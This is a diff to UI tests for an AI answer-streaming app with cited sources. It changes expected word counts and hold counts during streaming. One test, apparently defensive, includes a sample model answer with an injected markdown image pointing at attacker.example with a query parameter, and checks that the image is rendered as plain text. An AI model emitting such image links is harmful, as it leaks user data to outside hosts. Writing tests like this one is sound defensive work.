@@ -51,7 +51,8 @@ def test_answer_streams_then_cites_and_the_source_is_highlighted(
     expect(answer.locator(".answer-text")).not_to_be_empty()
     assert live_app.model.holding.wait(30)
     streamed = answer.locator(".answer-text").inner_text()
-    assert len(streamed.split()) == 4, streamed
+    # The server holds back the last word until the next piece: it may still become a URL.
+    assert len(streamed.split()) == 3, streamed
     expect(page.get_by_role("button", name="Stop generating")).to_be_visible()
     expect(answer.locator(".source-card")).to_have_count(0)
     live_app.model.release()
@@ -317,7 +318,7 @@ def test_an_injected_image_in_an_answer_is_shown_as_text(page: Page, live_app: L
         "Full-time employees get ![logo](http://attacker.example/collect?q=leave) 25 days "
         "of paid annual leave [1]."
     )
-    live_app.model.hold(4)
+    live_app.model.hold(5)  # the image and the word after it (which shows it is complete)
     ask(page, DEMO_QUESTION)
     answer = last_answer(page)
     assert live_app.model.holding.wait(30)
